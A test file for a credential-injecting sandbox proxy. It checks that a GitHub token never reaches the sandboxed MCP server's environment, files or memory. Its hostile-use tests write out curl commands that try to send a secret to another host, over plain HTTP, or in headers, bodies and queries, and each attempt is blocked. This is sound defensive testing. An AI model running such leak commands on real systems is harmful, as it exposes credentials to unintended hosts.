// Credentials that never enter the sandbox, end to end: the real MCP server
// @modelcontextprotocol/server-github, driven by the official SDK client over stdio through
// `stockade run --secret`, lists repositories from a local HTTPS stand-in for api.github.com.
// The stand-in sees the real token; the server's environment, files and memory never hold it.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as https from 'node:https';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { type SandboxOptions, spawnSandboxed } from '../lib';
import { RunCa } from '../lib/secrets';
import { descendants, isRoot, repoRoot, sharedTempDir } from './helpers';
import { needs } from './helpers/tools';

const launcher = path.join(repoRoot, 'bin', 'stockade.js');
const modules = path.join(repoRoot, 'node_modules');
const githubServer = path.join(modules, '@modelcontextprotocol', 'server-github', 'dist', 'index.js');

interface Seen {
  method: string;
  url: string;
  authorization?: string;
  headers: Record<string, unknown>;
}

/** An HTTPS stand-in for a host, with a certificate from a test CA the proxy is told to trust. */
async function standIn(host: string, dir: string): Promise<{ port: number; caFile: string; seen: Seen[]; close(): void }> {
  const ca = await RunCa.create({ commonName: 'stockade test upstream CA' });
  const leaf = await ca.leaf(host);
  const caFile = path.join(dir, 'upstream-ca.pem');
  fs.writeFileSync(caFile, ca.certPem);
  const seen: Seen[] = [];
  const repo = (name: string) => ({
    id: 1,
    node_id: 'R_1',
    name,
    full_name: `stockade/${name}`,
    private: false,
    owner: {
      login: 'stockade',
      id: 2,
      node_id: 'U_2',
      avatar_url: 'https://example.invalid/a',
      url: 'u',
      html_url: 'h',
      type: 'Organization',
    },
    html_url: `https://github.com/stockade/${name}`,
    description: 'confines MCP servers',
    fork: false,
    url: 'u',
    created_at: '2026-01-01T00:00:00Z',
    updated_at: '2026-01-01T00:00:00Z',
    pushed_at: '2026-01-01T00:00:00Z',
    git_url: 'g',
    ssh_url: 's',
    clone_url: 'c',
    default_branch: 'main',
  });
  const server = https.createServer({ key: leaf.keyPem, cert: leaf.certPem }, (req, res) => {
    seen.push({ method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization, headers: { ...req.headers } });
    if (req.url?.startsWith('/search/repositories')) {
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ total_count: 1, incomplete_results: false, items: [repo('stockade')] }));
      return;
    }
    if (req.url === '/redirect') {
      res.writeHead(302, { location: 'http://plain.test/landing' }).end();
      return;
    }
    res.setHeader('content-type', 'application/json');
    res.end('{"ok":true}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: (server.address() as AddressInfo).port, caFile, seen, close: () => server.close() };
}

/** Does the readable memory of `pid` contain `needle`? Reads /proc/PID/mem region by region. */
function memoryContains(pid: number, needle: Buffer): boolean {
  const maps = fs.readFileSync(`/proc/${pid}/maps`, 'utf8').trim().split('\n');
  const fd = fs.openSync(`/proc/${pid}/mem`, 'r');
  try {
    for (const line of maps) {
      const [range, perms, , , , name = ''] = line.split(/\s+/);
      if (!perms.startsWith('r') || name === '[vvar]' || name === '[vsyscall]') continue;
      const [start, end] = range.split('-').map((h) => BigInt(`0x${h}`));
      const size = Number(end - start);
      if (size > 1 << 30) continue;
      const chunk = Buffer.alloc(Math.min(size, 16 << 20));
      for (let off = 0; off < size; off += chunk.length - needle.length) {
        let n = 0;
        try {
          n = fs.readSync(fd, chunk, 0, Math.min(chunk.length, size - off), start + BigInt(off));
        } catch {
          break; // an unreadable region (guard pages, device mappings)
        }
        if (chunk.subarray(0, n).includes(needle)) return true;
        if (n < chunk.length) break;
      }
    }
  } finally {
    fs.closeSync(fd);
  }
  return false;
}

/** Every regular file under `dir` whose content contains `needle`. */
function filesContaining(dir: string, needle: Buffer, out: string[] = []): string[] {
  let entries: fs.Dirent[];
  try {
    entries = fs.readdirSync(dir, { withFileTypes: true });
  } catch {
    return out;
  }
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) filesContaining(p, needle, out);
    else if (e.isFile()) {
      try {
        if (fs.readFileSync(p).includes(needle)) out.push(p);
      } catch {}
    }
  }
  return out;
}

describe('server-github with a proxy-injected token', () => {
  const token = `ghp_${randomBytes(18).toString('hex')}`;
  let dir: string;
  let api: Awaited<ReturnType<typeof standIn>>;
  let client: Client;
  let transport: StdioClientTransport;

  before(async () => {
    dir = sharedTempDir('github');
    api = await standIn('api.github.com', dir);
    transport = new StdioClientTransport({
      command: process.execPath,
      args: [
        launcher,
        'run',
        '--ro',
        modules,
        '--allow-net',
        'api.github.com',
        '--resolve',
        `api.github.com:443:127.0.0.1:${api.port}`,
        '--secret',
        'GITHUB_PERSONAL_ACCESS_TOKEN@api.github.com',
        '--upstream-ca',
        api.caFile,
        '--tools',
        'search_repositories',
        '--audit',
        path.join(dir, 'audit.jsonl'),
        '--',
        'node',
        githubServer,
      ],
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', GITHUB_PERSONAL_ACCESS_TOKEN: token },
      stderr: 'pipe',
    });
    client = new Client({ name: 'stockade-test', version: '0.0.0' });
    await client.connect(transport);
  });
  after(async () => {
    await client?.close();
    api?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  test('search_repositories works; the stand-in receives the real token', async () => {
    const result = await client.callTool({ name: 'search_repositories', arguments: { query: 'stockade' } });
    const text = (result.content as { text: string }[])[0].text;
    assert.match(text, /"full_name": "stockade\/stockade"/);
    const search = api.seen.find((s) => s.url.startsWith('/search/repositories'));
    assert.ok(search, JSON.stringify(api.seen));
    assert.equal(search.authorization, `Bearer ${token}`);
  });

  test('the real token is in no environment, file or memory of the sandbox', () => {
    const needle = Buffer.from(token);
    const launcherPid = transport.pid;
    assert.ok(launcherPid);
    // The launcher (stockade run) holds the token by design; its descendants are the sandbox.
    const sandbox = descendants(launcherPid).slice(1);
    assert.ok(sandbox.length >= 2, `expected stockade-init and node, found ${sandbox}`);
    // stockade-init's argv names the server too: the payload is the process whose comm is node.
    const payload = sandbox.find((pid) => fs.readFileSync(`/proc/${pid}/comm`, 'utf8').trim() === 'node');
    assert.ok(payload, 'the node server process');
    for (const pid of sandbox) {
      const comm = fs.readFileSync(`/proc/${pid}/comm`, 'utf8').trim();
      if (comm === 'stockade-init' && !isRoot) {
        // PID 1 is not dumpable, so its /proc files belong to root: an unprivileged test cannot
        // read them (as the payload cannot). As root the same checks run on it below.
        assert.throws(() => fs.readFileSync(`/proc/${pid}/environ`), { code: 'EACCES' });
        continue;
      }
      const environ = fs.readFileSync(`/proc/${pid}/environ`);
      assert.equal(environ.includes(needle), false, `token in /proc/${pid}/environ`);
      assert.equal(memoryContains(pid, needle), false, `token in the memory of ${pid}`);
    }
    // The server sees a placeholder where the token would be.
    const env = fs.readFileSync(`/proc/${payload}/environ`, 'utf8').split('\0');
    const seen = env.find((e) => e.startsWith('GITHUB_PERSONAL_ACCESS_TOKEN='));
    assert.match(seen ?? '', /^GITHUB_PERSONAL_ACCESS_TOKEN=stockade-ph-github_personal_access_token-[0-9a-f]{32}$/);
    // Every file the sandbox can write or that stockade made for it.
    const root = `/proc/${payload}/root`;
    assert.deepEqual(
      ['etc', 'tmp', 'home', 'dev/shm'].flatMap((d) => filesContaining(path.join(root, d), needle)),
      [],
    );
  });

  test('the audit log correlates the egress with the tool call that caused it, and never holds the token', async () => {
    // Egress records are written when the connection closes; the server keeps it alive for reuse.
    await client.close();
    const log = fs.readFileSync(path.join(dir, 'audit.jsonl'), 'utf8');
    assert.equal(log.includes(token), false);
    const events = log
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    assert.ok(
      events.some((e) => e.event === 'secret-injected' && e.secret === 'GITHUB_PERSONAL_ACCESS_TOKEN' && e.host === 'api.github.com'),
    );
    assert.ok(events.some((e) => e.event === 'mcp.tool_call' && e.tool === 'search_repositories' && e.outcome === 'ok'));
    const correlated = events.find((e) => e.event === 'mcp.tool_egress' && e.egress.host === 'api.github.com');
    assert.ok(correlated, log);
    assert.deepEqual(
      correlated.calls.map((c: { tool: string }) => c.tool),
      ['search_repositories'],
    );
  });
});

describe('hostile use of the placeholder', () => {
  let dir: string;
  let api: Awaited<ReturnType<typeof standIn>>;
  const token = `sk_${randomBytes(12).toString('hex')}`;
  // A plain-HTTP server standing in for every other host: whatever reaches it was forwarded.
  const plainSeen: string[] = [];
  let plain: http.Server;
  let plainPort: number;

  before(async () => {
    dir = sharedTempDir('secrets-hostile');
    api = await standIn('api.secret.test', dir);
    plain = http.createServer((req, res) => {
      plainSeen.push(`${req.url} ${JSON.stringify(req.headers)}`);
      res.end('forwarded');
    });
    await new Promise<void>((resolve) => plain.listen(0, '127.0.0.1', resolve));
    plainPort = (plain.address() as AddressInfo).port;
  });
  after(() => {
    api.close();
    plain.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  async function attempt(script: string, extra: Partial<SandboxOptions> = {}) {
    process.env.STOCKADE_TEST_TOKEN = token;
    const options: SandboxOptions = {
      network: {
        allow: ['api.secret.test', 'plain.test:80'],
        resolve: [
          `api.secret.test:443:127.0.0.1:${api.port}`,
          `api.secret.test:80:127.0.0.1:${plainPort}`,
          `plain.test:80:127.0.0.1:${plainPort}`,
        ],
      },
      secrets: [{ name: 'STOCKADE_TEST_TOKEN', hosts: ['api.secret.test'] }],
      upstreamCa: [api.caFile],
      stdio: ['ignore', 'pipe', 'pipe'],
      ...extra,
    };
    const child = spawnSandboxed('sh', ['-c', script], options);
    const audit: Record<string, unknown>[] = [];
    child.on('audit', (e) => audit.push(e));
    let stdout = '';
    let stderr = '';
    child.stdout?.on('data', (d) => (stdout += d));
    child.stderr?.on('data', (d) => (stderr += d));
    await child.exited;
    delete process.env.STOCKADE_TEST_TOKEN;
    return { stdout, stderr, violations: audit.filter((e) => e.event === 'violation').map((e) => e.rule) };
  }

  test('the right header on the right host carries the real value', { skip: needs('curl') }, async () => {
    const before = api.seen.length;
    const r = await attempt('curl -sS -H "Authorization: Bearer $STOCKADE_TEST_TOKEN" https://api.secret.test/ok');
    assert.equal(r.stdout, '{"ok":true}', r.stderr);
    assert.equal(api.seen.at(-1)?.authorization, `Bearer ${token}`);
    assert.equal(api.seen.length, before + 1);
  });

  test('curl over HTTP/2, Node fetch and python3 urllib all get the injected header', { skip: needs('curl', 'python3') }, async () => {
    const before = api.seen.length;
    const r = await attempt(
      [
        'curl -sS --http2 -o /dev/null -w "%{http_version}\\n" -H "Authorization: Bearer $STOCKADE_TEST_TOKEN" https://api.secret.test/h2',
        `node -e "fetch('https://api.secret.test/fetch', { headers: { authorization: 'Bearer ' + process.env.STOCKADE_TEST_TOKEN } }).then((r) => r.text()).then(console.log)"`,
        `python3 -c "import os, urllib.request as u; print(u.urlopen(u.Request('https://api.secret.test/py', headers={'Authorization': 'Bearer ' + os.environ['STOCKADE_TEST_TOKEN']})).read().decode())"`,
      ].join('; '),
    );
    assert.equal(r.stdout, '2\n{"ok":true}\n{"ok":true}\n', r.stderr);
    const seen = api.seen.slice(before);
    assert.deepEqual(
      seen.map((s) => [s.url, s.authorization]),
      ['/h2', '/fetch', '/py'].map((u) => [u, `Bearer ${token}`]),
    );
  });

  test('node trusts the per-run CA through --use-openssl-ca, not NODE_EXTRA_CA_CERTS (read at every node start)', async () => {
    const before = api.seen.length;
    const probe = (url: string) =>
      `node -e "console.log(process.env.NODE_EXTRA_CA_CERTS, process.env.NODE_OPTIONS.split(' ').filter((o) => o.endsWith('-ca')).join()); fetch('${url}', { headers: { authorization: 'Bearer ' + process.env.STOCKADE_TEST_TOKEN } }).then((r) => r.text()).then(console.log)"`;
    const r = await attempt(probe('https://api.secret.test/openssl-ca'));
    assert.equal(r.stdout, 'undefined --use-openssl-ca\n{"ok":true}\n', r.stderr);
    // node refuses --use-openssl-ca beside a --use-bundled-ca of the sandbox's own NODE_OPTIONS:
    // the bundle is then NODE_EXTRA_CA_CERTS, and the server still verifies.
    const bundled = await attempt(probe('https://api.secret.test/bundled-ca'), { env: { NODE_OPTIONS: '--use-bundled-ca' } });
    assert.equal(bundled.stdout, '/etc/ssl/certs/ca-certificates.crt --use-bundled-ca\n{"ok":true}\n', bundled.stderr);
    assert.deepEqual(
      api.seen.slice(before).map((s) => [s.url, s.authorization]),
      ['/openssl-ca', '/bundled-ca'].map((u) => [u, `Bearer ${token}`]),
    );
  });

  test('a placeholder file: the server reads the placeholder from a file, and the value goes on the wire', {
    skip: needs('curl'),
  }, async () => {
    const before = api.seen.length;
    const r = await attempt(
      'cat /home/nobody/.token; curl -sS -H "Authorization: Bearer $(cat /home/nobody/.token)" https://api.secret.test/file',
      {
        secrets: [{ name: 'STOCKADE_TEST_TOKEN', hosts: ['api.secret.test'], file: '/home/nobody/.token' }],
      },
    );
    assert.match(r.stdout, /^stockade-ph-stockade_test_token-[0-9a-f]{32}\n\{"ok":true\}$/, r.stderr);
    assert.equal(api.seen[before]?.authorization, `Bearer ${token}`);
  });

  test('in another header, in the body, in the query: refused with 403 and reported', { skip: needs('curl') }, async () => {
    const before = api.seen.length;
    const r = await attempt(
      [
        'curl -sS -w " %{http_code}\\n" -H "X-Leak: $STOCKADE_TEST_TOKEN" https://api.secret.test/h',
        'curl -sS -w " %{http_code}\\n" --data "token=$STOCKADE_TEST_TOKEN" https://api.secret.test/b',
        'curl -sS -w " %{http_code}\\n" "https://api.secret.test/q?t=$STOCKADE_TEST_TOKEN"',
      ].join('; '),
    );
    assert.deepEqual(r.stdout.match(/ \d{3}$/gm), [' 403', ' 403', ' 403'], r.stdout + r.stderr);
    assert.deepEqual(r.violations, ['placeholder-in-header', 'placeholder-in-body', 'placeholder-in-url']);
    // Nothing of those requests reached the upstream.
    assert.equal(api.seen.length, before);
  });

  test('to another host, or over plain HTTP (also after a redirect, or without the proxy): refused and reported', {
    skip: needs('curl'),
  }, async () => {
    const r = await attempt(
      [
        'curl -sS -w " %{http_code}\\n" -H "Authorization: Bearer $STOCKADE_TEST_TOKEN" http://plain.test/x',
        'curl -sS -w " %{http_code}\\n" -H "Authorization: Bearer $STOCKADE_TEST_TOKEN" http://api.secret.test/x',
        'curl -sS -L --location-trusted -w " %{http_code}\\n" -H "Authorization: Bearer $STOCKADE_TEST_TOKEN" https://api.secret.test/redirect',
        // Without the proxy variables: transparent interception on port 80, a raw request.
        'env -u HTTP_PROXY -u http_proxy curl -sS -w " %{http_code}\\n" "http://plain.test/t?k=$STOCKADE_TEST_TOKEN"',
      ].join('; '),
    );
    assert.deepEqual(r.stdout.match(/ \d{3}$/gm), [' 403', ' 403', ' 403', ' 403'], r.stdout + r.stderr);
    assert.deepEqual(r.violations, Array(4).fill('placeholder-in-plaintext'));
    assert.deepEqual(plainSeen, []);
  });

  test('a secret missing on the host fails before the sandbox starts, naming the variable', () => {
    delete process.env.STOCKADE_TEST_ABSENT;
    assert.throws(
      () =>
        spawnSandboxed('true', [], {
          network: { allow: ['api.secret.test'] },
          secrets: [{ name: 'STOCKADE_TEST_ABSENT', hosts: ['api.secret.test'] }],
        }),
      /STOCKADE_TEST_ABSENT/,
    );
  });
});
